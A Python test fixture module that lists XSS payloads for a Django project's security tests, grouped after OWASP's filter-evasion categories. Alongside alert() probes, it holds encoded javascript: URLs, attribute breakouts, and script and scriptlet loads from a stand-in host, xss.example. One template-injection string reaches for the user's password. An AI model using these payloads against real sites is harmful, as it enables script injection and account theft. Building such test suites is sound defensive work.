# ruff: noqa: E501 (payloads are kept whole, as the cheat sheet writes them)
"""XSS payloads for the security tests, grouped by the categories of OWASP's XSS Filter Evasion Cheat Sheet.

Each payload is a ``(category, payload)`` pair; ``PAYLOADS`` lists them all and ``ids()`` gives pytest ids
like ``script-3``. No payload contains a NUL byte: Django's form fields refuse those outright.
"""

from __future__ import annotations

CATEGORIES: dict[str, list[str]] = {
    # Basic XSS test without filter evasion; the script in an attribute-less tag and from another host.
    "script": [
        "<script>alert('XSS')</script>",
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        '<script/XSS src="https://xss.example/xss.js"></script>',
        "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
        "<SCRIPT SRC=//xss.example/.j>",
        '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
        "</TITLE><SCRIPT>alert('XSS');</SCRIPT>",
        "</textarea><script>alert('XSS')</script>",
    ],
    # Image and other tags with event handlers, including malformed ones.
    "event-handler": [
        '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
        "<img src=x onerror=alert('XSS')>",
        '<BODY ONLOAD=alert("XSS")>',
        "<svg/onload=alert('XSS')>",
        '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
        '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
        "<div onmouseover=\"alert('XSS')\">hover</div>",
        '<details open ontoggle=alert("XSS")>',
        '<input autofocus onfocus=alert("XSS")>',
        '<a href="https://ok.example/" onclick="alert(\'XSS\')">link</a>',
    ],
    # javascript: URLs with entity encodings, embedded whitespace and case mixing.
    "javascript-url": [
        "<a href=\"javascript:alert('XSS')\">click</a>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">dec</a>',
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">long</a>',
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">hex</a>',
        "<a href=\"jav\tascript:alert('XSS');\">tab</a>",
        "<a href=\"jav&#x09;ascript:alert('XSS');\">encoded tab</a>",
        "<a href=\"jav&#x0A;ascript:alert('XSS');\">encoded newline</a>",
        "<a href=\" &#14;  javascript:alert('XSS');\">spaces</a>",
        "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
        '<IMG SRC="livescript:[code]">',
    ],
    # Malformed and half-open tags, extraneous brackets.
    "malformed": [
        "<IMG SRC=\"javascript:alert('XSS')\"",
        "<iframe src=https://xss.example/scriptlet.html <",
        "<<img src=x onerror=alert(1)//<",
        '<a """ href="javascript:alert(1)">x</a>',
        "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    ],
    # SVG and MathML.
    "svg-mathml": [
        '<svg><script>alert("XSS")</script></svg>',
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<math href="javascript:alert(1)">CLICKME</math>',
    ],
    # Style attributes and elements, expression(), behaviour and imports.
    "style": [
        "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
        '<XSS STYLE="behavior: url(xss.htc);">',
    ],
    # Meta refresh and base.
    "meta-base": [
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
        "<BASE HREF=\"javascript:alert('XSS');//\">",
    ],
    # Frames, objects and embeds.
    "frame-object-embed": [
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
        '<APPLET CODE="xss.class"></APPLET>',
    ],
    # data: URIs.
    "data-uri": [
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=">data</a>',
        '<img src="data:text/html,<script>alert(1)</script>">',
        '<form action="data:text/html,<script>alert(1)</script>"><button>go</button></form>',
    ],
    # Charset tricks: UTF-7, US-ASCII, full-width and comment-split tags.
    "charset": [
        "+ADw-script+AD4-alert('XSS')+ADw-/script+AD4-",
        '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
        "\uff1cscript\uff1ealert('XSS')\uff1c/script\uff1e",
        "<scr<!-- -->ipt>alert('XSS')</scr<!-- -->ipt>",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    ],
    # Breaking out of attribute values and quotes.
    "attribute-break": [
        '"><script>alert("XSS")</script>',
        "'><img src=x onerror=alert('XSS')>",
        '" onmouseover="alert(\'XSS\')" x="',
        "' autofocus onfocus='alert(1)",
        '"/><svg onload=alert(1)>',
    ],
    # Template and framework injections: Django/Jinja, AngularJS, JavaScript template literals.
    "template": [
        "{{ 7*7 }} {% debug %} {{ request.user.password }}",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert('XSS')}",
        "`;alert('XSS');//",
        "</script><script>alert('XSS')</script>",
    ],
}

PAYLOADS: list[tuple[str, str]] = [(category, payload) for category, items in CATEGORIES.items() for payload in items]


def ids() -> list[str]:
    counters: dict[str, int] = {}
    result = []
    for category, _payload in PAYLOADS:
        counters[category] = counters.get(category, 0) + 1
        result.append(f"{category}-{counters[category]}")
    return result
